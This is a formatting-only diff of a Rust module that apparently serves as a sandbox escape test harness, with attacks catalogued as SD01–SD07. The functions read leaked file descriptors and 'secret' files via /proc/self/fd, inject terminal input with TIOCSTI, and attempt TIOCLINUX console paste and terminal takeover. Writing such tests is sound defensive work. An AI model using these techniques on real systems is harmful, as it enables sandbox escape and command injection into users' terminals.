@@ -9,19 +9,32 @@ use super::out::{argument, note, number, reached, read, result};
 use super::sys::{self, Arg, call};
 
 /// By the ids of the catalogue.
-pub const ATTACKS: super::Table =
-    &[("SD01", descriptors), ("SD02", reopen_streams), ("SD03", push_input), ("SD05", environment), ("SD07", posture)];
+pub const ATTACKS: super::Table = &[
+    ("SD01", descriptors),
+    ("SD02", reopen_streams),
+    ("SD03", push_input),
+    ("SD05", environment),
+    ("SD07", posture),
+];
 
 /// Everything beyond the standard streams.
 fn descriptors(_: &[String]) {
     for number in 3..1024 {
-        let Ok(copy) = sys::duplicate(number) else { continue };
+        let Ok(copy) = sys::duplicate(number) else {
+            continue;
+        };
         let target = fs::read_link(format!("/proc/self/fd/{}", copy.as_raw_fd())).unwrap_or_default();
         reached(format!("descriptor {number}: {}", target.display()));
         if fs::metadata(&target).is_ok_and(|found| found.is_file()) {
-            result("open file", fs::read(format!("/proc/self/fd/{}", copy.as_raw_fd())));
+            result(
+                "open file",
+                fs::read(format!("/proc/self/fd/{}", copy.as_raw_fd())),
+            );
         }
-        result("beside it", fs::read(format!("/proc/self/fd/{}/secret", copy.as_raw_fd())));
+        result(
+            "beside it",
+            fs::read(format!("/proc/self/fd/{}/secret", copy.as_raw_fd())),
+        );
     }
 }
 
@@ -47,18 +60,40 @@ fn push_input(arguments: &[String]) {
     const PUSH: i64 = libc::TIOCSTI as i64;
     let text = format!("{}\n", argument(arguments, 0));
     let terminal = fs::OpenOptions::new().read(true).write(true).open("/dev/tty");
-    let descriptors = [Some(0), Some(1), Some(2), terminal.as_ref().ok().map(|file| file.as_raw_fd())];
+    let descriptors = [
+        Some(0),
+        Some(1),
+        Some(2),
+        terminal.as_ref().ok().map(|file| file.as_raw_fd()),
+    ];
     for descriptor in descriptors.into_iter().flatten() {
         let mut done = 0;
         for byte in text.bytes() {
             let mut one = [byte];
-            done += i32::from(call(libc::SYS_ioctl, &mut [Arg::Int(i64::from(descriptor)), Arg::Int(PUSH), Arg::Bytes(&mut one)]).is_ok());
+            done += i32::from(
+                call(
+                    libc::SYS_ioctl,
+                    &mut [
+                        Arg::Int(i64::from(descriptor)),
+                        Arg::Int(PUSH),
+                        Arg::Bytes(&mut one),
+                    ],
+                )
+                .is_ok(),
+            );
         }
         note(format!("descriptor {descriptor}: pushed {done}"));
         // TIOCLINUX: paste the selection of a console; and take the terminal over.
         for request in [0x541C, 0x540E] {
             let mut subcode = [3_u8; 8];
-            let _ = call(libc::SYS_ioctl, &mut [Arg::Int(i64::from(descriptor)), Arg::Int(request), Arg::Bytes(&mut subcode)]);
+            let _ = call(
+                libc::SYS_ioctl,
+                &mut [
+                    Arg::Int(i64::from(descriptor)),
+                    Arg::Int(request),
+                    Arg::Bytes(&mut subcode),
+                ],
+            );
         }
     }
 }
@@ -91,8 +126,14 @@ fn posture(_: &[String]) {
     let personality = call(libc::SYS_personality, &mut [Arg::Int(0xffff_ffff)]).unwrap_or(-1);
     println!("Personality: {personality}");
     let limits = fs::read_to_string("/proc/self/limits").unwrap_or_default();
-    limits.lines().filter(|line| line.starts_with("Max")).for_each(|line| println!("{line}"));
-    println!("Directory: {}", std::env::current_dir().unwrap_or_default().display());
+    limits
+        .lines()
+        .filter(|line| line.starts_with("Max"))
+        .for_each(|line| println!("{line}"));
+    println!(
+        "Directory: {}",
+        std::env::current_dir().unwrap_or_default().display()
+    );
     let session = call(libc::SYS_getsid, &mut [Arg::Int(0)]).unwrap_or(-1);
     println!("Session: {session}");
 }
@@ -109,7 +150,11 @@ pub fn act(arguments: &[String]) -> ExitCode {
         }
         "echo" => {
             let copied = std::io::copy(&mut std::io::stdin().lock(), &mut std::io::stdout().lock());
-            return if copied.is_ok() { ExitCode::SUCCESS } else { ExitCode::FAILURE };
+            return if copied.is_ok() {
+                ExitCode::SUCCESS
+            } else {
+                ExitCode::FAILURE
+            };
         }
         other => eprintln!("attack: do what? {other}"),
     }
